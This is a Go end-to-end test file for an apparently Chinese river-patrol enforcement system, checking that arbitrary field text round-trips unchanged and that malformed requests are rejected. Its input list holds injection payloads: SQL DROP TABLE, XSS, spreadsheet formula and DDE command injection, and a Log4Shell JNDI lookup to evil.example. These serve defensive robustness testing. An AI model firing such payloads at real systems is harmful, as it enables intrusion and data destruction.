package e2e_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/google/uuid"
)

// texts are what somebody may type, paste or send into a field: all of it is text and nothing else.
func texts() []string {
	return []string{
		`'; DROP TABLE findings_finding; --`,
		`<script>alert("水政")</script>`,
		`=HYPERLINK("http://evil.example","点我")`,
		`+1+cmd|' /C calc'!A0`,
		`@SUM(A1:A9)`,
		"\u202e倒着写\u202c",
		"零\u200b宽\ufeff",
		"表情😀👨‍👩‍👧",
		`\u0000 不是 NUL`,
		`"引号" 'und' \反斜杠\`,
		"第一行\n第二行\t制表\r\n",
		`${jndi:ldap://evil.example/a}`,
		`{{7*7}} %s %00 %ff`,
		`* OR "1"="1" NEAR(a b) AND`,
		"\u0001\u001f\u007f控制",
		"e\u0301 和 \u00e9",
		"𠮷野家",
		" 前后空格 ",
		"null",
		`</textarea><img src=x onerror=alert(1)>`,
	}
}

// cut makes a text fit a field.
func cut(text string, most int) string {
	runes := []rune(text)
	return string(runes[:min(len(runes), most)])
}

// TestTextIsData puts every text into every field that takes text, and reads each back: from the events, from the pages, from the
// lists and by search. What comes back is what was sent, byte for byte.
func TestTextIsData(t *testing.T) {
	t.Parallel()
	s := newScene(t)
	now := time.Now()
	same := func(who *client, position uint64, stream string, sent ...obj) {
		t.Helper()
		var got struct {
			Events []struct {
				Type    string
				Data    obj
				Summary string
			}
		}
		who.getAt(position, "/api/v1/streams/"+stream+"/events", &got)
		if len(got.Events) != len(sent) {
			t.Fatalf("%s has %d events, want %d", stream, len(got.Events), len(sent))
		}
		for n, e := range got.Events {
			if missing := lacks(e.Data, deep(t, sent[n])); missing != "" {
				t.Errorf("%s, %s: %s", stream, e.Type, missing)
			}
			if e.Summary == "" {
				t.Errorf("%s, %s says nothing", stream, e.Type)
			}
		}
	}
	for n, text := range texts() {
		organ, reach, officer, patrol, on, other, file := newID(), newID(), newID(), newID(), newID(), newID(), newID()
		at := now.Add(-time.Hour)
		organData := obj{"name": cut(text, 100), "docCode": cut(text, 10), "district": "320281"}
		reachData := obj{"name": cut(text, 60), "water": cut(text, 60), "district": "320281", "regime": "yangtze"}
		officerData := obj{"name": cut(text, 50), "organ": organ, "district": "320281", "roles": []string{"officer"}}
		certData := obj{"certNo": cut(text, 32), "from": "2023-01-01", "until": "2035-12-31"}
		s.admin.act(command("organ.register", organ, now, organData))
		s.admin.act(command("reach.register", reach, now, reachData))
		s.admin.act(command("officer.register", officer, now, officerData))
		known := s.admin.act(command("officer.certify", officer, now, certData))
		s.officer.get(fmt.Sprintf("/api/v1/reaches?waitFor=%d", known.Position), &page{})

		crew := []uuid.UUID{officer, s.world.officer["jy-1"]}
		agreed := obj{"name": cut(text, 50), "post": cut(text, 50), "opinion": text, "approvedOn": dayOf(at)}
		departData := obj{"officers": crew, "reaches": []uuid.UUID{reach}, "means": "boat", "purpose": text}
		returnData := obj{"note": text}
		reportData := obj{"source": "tip", "kind": "sand.vessel", "reach": reach, "description": text, "officers": crew,
			"place":  obj{"latE6": 1, "lonE6": 2, "datum": "WGS84", "accuracyCm": 3, "source": "map", "note": text},
			"vessel": obj{"name": cut(text, 50), "type": "hidden", "papers": "none"},
			"photos": []obj{with(s.photo.cite(text), "takenAt", at.Format(time.RFC3339))}}
		verifyData := obj{"result": "suspected", "note": text, "officers": crew}
		refuseData := obj{"reason": "corrected", "note": text, "approval": agreed}
		fileData := s.filing(file, "S01", dayOf(at), "jy-1", "jy-2")
		filing := fileData["filing"].(obj)
		filing["title"], filing["summary"], filing["unitHead"], filing["organHead"], filing["handlers"] = cut(text, 120), text, agreed, agreed, crew
		filing["parties"] = []obj{{"kind": "person", "name": text, "idNo": cut(text, 32), "legal": cut(text, 50), "phone": cut(text, 32), "address": text}}
		closeData := obj{"ground": "handed_over", "note": text, "receiver": text, "receipt": text, "approval": agreed}

		s.officer.act(command("patrol.depart", patrol, at, departData))
		s.officer.act(command("patrol.return", patrol, at.Add(time.Minute), returnData))
		s.officer.act(command("finding.report", on, at, reportData))
		s.officer.act(command("finding.report", other, at, reportData))
		s.officer.act(command("finding.verify", on, at, verifyData))
		s.officer.act(command("finding.verify", other, at, verifyData))
		s.handler.act(command("finding.do_not_file", other, at, refuseData))
		s.handler.act(command("finding.approve_filing", on, at, fileData))
		last := s.handler.act(command("case.close", file, at.Add(time.Minute), closeData))

		// The registry's own names go into the events of others: as known then.
		without := func(o obj, names ...string) obj {
			o = deep(t, o)
			for _, name := range names {
				delete(o, name)
			}
			return o
		}
		names := []obj{{"name": cut(text, 50), "certNo": cut(text, 32)}, {}}
		reported := with(with(without(reportData, "officers", "reach"), "reach", obj{"name": cut(text, 60)}), "crew", names)
		same(s.admin, last.Position, "organ-"+organ.String(), organData)
		same(s.admin, last.Position, "reach-"+reach.String(), reachData)
		same(s.admin, last.Position, "officer-"+officer.String(), officerData, certData)
		same(s.officer, last.Position, "patrol-"+patrol.String(), with(without(departData, "officers"), "crew", names), returnData)
		same(s.officer, last.Position, "finding-"+on.String(), reported, with(without(verifyData, "officers"), "crew", names), fileData, obj{"case": file})
		same(s.officer, last.Position, "finding-"+other.String(), reported, with(without(verifyData, "officers"), "crew", names), refuseData)
		same(s.officer, last.Position, "case-"+file.String(), obj{"filing": filing, "ground": obj{"handlers": names}}, closeData)

		// The pages.
		for path, want := range map[string]obj{
			"findings/" + on.String():    {"finding": obj{"description": text, "placeNote": text, "vesselName": cut(text, 50), "reach": obj{"name": cut(text, 60)}, "place": obj{"note": text}, "verified": obj{"note": text}, "crew": names, "photoList": []obj{{"caption": text}}}},
			"findings/" + other.String(): {"finding": obj{"status": "not_filed", "notFiled": obj{"note": text, "approval": agreed}}},
			"cases/" + file.String(): {"case": obj{"title": cut(text, 120), "party": text, "reach": obj{"name": cut(text, 60)}, "handlers": []string{cut(text, 50), "陆建平"}, "filing": filing,
				"closed": obj{"note": text, "receiver": text, "receipt": text, "approval": agreed}}, "finding": obj{"description": text}},
			"patrols/" + patrol.String(): {"patrol": obj{"purpose": text, "note": text, "crew": names, "reaches": []obj{{"name": cut(text, 60)}}}},
		} {
			var got obj
			s.handler.get("/api/v1/"+path, &got)
			if missing := lacks(got, deep(t, want)); missing != "" {
				t.Errorf("text %d, %s: %s", n, path, missing)
			}
		}
		for path, want := range map[string]obj{
			"findings?from=" + dayOf(at) + "&": {"id": on, "description": text},
			"cases?":                           {"id": file, "title": cut(text, 120), "party": text},
			"patrols?":                         {"id": patrol, "purpose": text},
			"reaches?":                         {"id": reach, "name": cut(text, 60), "water": cut(text, 60)},
			"officers?":                        {"id": officer, "name": cut(text, 50), "certNo": cut(text, 32)},
			"organs?":                          {"id": organ, "name": cut(text, 100), "docCode": cut(text, 10)},
			"statistics/entries?measure=findings&reach=" + reach.String() + "&": {"subject": text},
		} {
			want = deep(t, want)
			rows := items[obj](s.handler, "/api/v1/"+path+"limit=200")
			if !slices.ContainsFunc(rows, func(row obj) bool { return lacks(row, want) == "" }) {
				t.Errorf("text %d: no row of %s is %v", n, path, want)
			}
		}

		// Whoever pastes the text into the search finds it, unless there is nothing to search for in it.
		search := func(list string, id uuid.UUID) {
			t.Helper()
			rows := items[struct{ ID uuid.UUID }](s.handler, "/api/v1/"+list+"?limit=200&q="+url.QueryEscape(text))
			found := slices.ContainsFunc(rows, func(row struct{ ID uuid.UUID }) bool { return row.ID == id })
			if searchable := strings.ContainsFunc(text, func(r rune) bool { return unicode.IsLetter(r) || unicode.IsDigit(r) }); found != searchable {
				t.Errorf("%s: searching for %q finds it: %v", list, text, found)
			}
		}
		search("findings", on)
		search("cases", file)
	}
	s.house.ready()
	s.house.stop()
	s.house.rebuild()
}

// lacks compares as far as want goes: every field in it must be in got, lists of the same length. It says what is not.
func lacks(got, want any) string {
	switch w := want.(type) {
	case obj:
		g, ok := got.(obj)
		if !ok {
			return fmt.Sprintf("%v is no object", got)
		}
		for name, v := range w {
			if why := lacks(g[name], v); why != "" {
				return name + ": " + why
			}
		}
	case []any:
		g, ok := got.([]any)
		if !ok || len(g) != len(w) {
			return fmt.Sprintf("%v, want %d of %v", got, len(w), w)
		}
		for n := range w {
			if why := lacks(g[n], w[n]); why != "" {
				return fmt.Sprint(n, ": ", why)
			}
		}
	default:
		if !reflect.DeepEqual(got, want) {
			return fmt.Sprintf("%q, want %q", got, want)
		}
	}
	return ""
}

// Ids are made by clients: one may be used for everything at once, out of malice or by a bad source of chance.
func TestOneIDForEverything(t *testing.T) {
	t.Parallel()
	s := newScene(t)
	id, at := newID(), time.Now().Add(-time.Hour)
	s.admin.act(command("organ.register", id, at, obj{"name": "同号单位", "docCode": "同", "district": "320281"}))
	s.admin.act(command("officer.register", id, at, obj{"name": "同号人员", "organ": id, "district": "320281", "roles": []string{"officer"}}))
	known := s.admin.act(command("reach.register", id, at, obj{"name": "同号河段", "water": "同号河", "district": "320281", "regime": "yangtze"}))
	s.officer.get(fmt.Sprintf("/api/v1/reaches?waitFor=%d", known.Position), &page{})
	report := s.report("长江利港段", "jy-1", "jy-2")
	report["reach"], report["source"], report["patrol"] = id, "patrol", id
	s.officer.act(command("patrol.depart", id, at, obj{"officers": s.ids("jy-1", "jy-2"), "reaches": []uuid.UUID{id}, "means": "boat", "purpose": "同号巡查"}))
	s.officer.act(command("finding.report", id, at, report))
	s.officer.act(command("patrol.return", id, at.Add(time.Minute), obj{}))
	s.handler.act(command("finding.approve_filing", id, at, s.filing(id, "S01", dayOf(at), "jy-handler", "jy-1")))
	last := s.handler.act(command("case.close", id, at.Add(time.Minute), obj{"ground": "withdrawn", "note": "撤销", "approval": approval(dayOf(at))}))
	s.officer.get(fmt.Sprintf("/api/v1/findings?waitFor=%d", last.Position), &page{})
	for path, want := range map[string]obj{
		"patrols/" + id.String():  {"patrol": obj{"purpose": "同号巡查", "status": "returned", "reaches": []obj{{"name": "同号河段"}}}, "findings": []obj{{"id": id}}},
		"findings/" + id.String(): {"finding": obj{"status": "filed", "reach": obj{"name": "同号河段"}}},
		"cases/" + id.String():    {"case": obj{"status": "closed", "reach": obj{"name": "同号河段"}}, "finding": obj{"id": id}},
	} {
		var got obj
		s.handler.get("/api/v1/"+path, &got)
		if missing := lacks(got, deep(t, want)); missing != "" {
			t.Errorf("%s: %s", path, missing)
		}
	}
	for _, measure := range []string{"patrols", "findings", "casesFiled", "casesClosed"} {
		rows := items[obj](s.handler, "/api/v1/statistics/entries?measure="+measure+"&reach="+id.String())
		kind := map[string]string{"patrols": "patrol", "findings": "finding"}[measure]
		if kind == "" {
			kind = "case"
		}
		if len(rows) != 1 || lacks(rows[0], deep(t, obj{"link": obj{"kind": kind, "id": id}, "amount": 1})) != "" {
			t.Errorf("%s: %v", measure, rows)
		}
	}
	s.house.ready()
	s.house.stop()
	s.house.rebuild()
}

// What nobody could have sent through a form is not kept, and does not stop anything either: an empty list of a thousand commas.
func TestBodiesOfChance(t *testing.T) {
	t.Parallel()
	s := newScene(t)
	seed := uint64(time.Now().UnixNano())
	t.Logf("seed %d", seed)
	dice := newDice(seed)
	good := encode(t, command("finding.report", newID(), time.Now().Add(-time.Hour), s.report("长江利港段", "jy-1", "jy-2")))
	for range 300 {
		body := bytes.Clone(good)
		for range 1 + dice.IntN(4) {
			switch at := dice.IntN(len(body)); dice.IntN(4) {
			case 0:
				body[at] = byte(dice.Uint32())
			case 1:
				body = slices.Delete(body, at, min(len(body), at+1+dice.IntN(8)))
			case 2:
				body = slices.Insert(body, at, []byte(`{}[]",:\u0000e9`)[dice.IntN(14)])
			case 3:
				body = append(body[:at:at], body[min(len(body), at+dice.IntN(40)):]...)
			}
			if len(body) == 0 {
				body = []byte("{")
			}
		}
		a := s.officer.do(http.MethodPut, "/api/v1/commands/"+newID().String(), body)
		if a.status == http.StatusOK { // the change hit a text, or an id that nobody checks
			var done accepted
			a.into(&done)
			if !json.Valid(body) {
				t.Fatalf("accepted, but no JSON: %q", body)
			}
			continue
		}
		a.decent(a.status, a.problem().Code)
		if a.status/100 != 4 {
			t.Errorf("%d to %q", a.status, body)
		}
	}
	s.house.ready()
}
